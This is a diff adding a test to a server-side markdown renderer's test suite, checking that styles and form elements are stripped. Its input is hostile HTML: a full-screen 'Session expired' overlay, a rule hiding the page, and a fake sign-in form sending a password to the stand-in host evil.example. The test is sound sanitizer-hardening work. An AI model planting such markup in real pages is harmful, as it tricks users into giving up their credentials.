@@ -19,6 +19,19 @@ describe('renderMarkdown on the server', () => {
     expect(html).toContain('<img src="x">');
   });
 
+  it('drops styles and forms: no overlay over the page, no look-alike sign-in form', () => {
+    const html = renderMarkdown(
+      [
+        '<a href="/x" style="position:fixed;inset:0;z-index:99999">Session expired</a>',
+        '<style>body{display:none}</style>',
+        '<form action="https://evil.example"><input type="password" name="p"><button>Sign in</button>',
+        '<textarea>t</textarea><select><option>o</option></select></form>',
+      ].join(''),
+    );
+    expect(html).not.toMatch(/style|<form|<input|<button|<textarea|<select|<option/i);
+    expect(html).toContain('<a href="/x">Session expired</a>');
+  });
+
   it('opens links to other sites without an opener or referrer', () => {
     expect(renderMarkdown('[site](https://example.com)')).toContain(
       '<a href="https://example.com" rel="noopener noreferrer nofollow" target="_blank">site</a>',
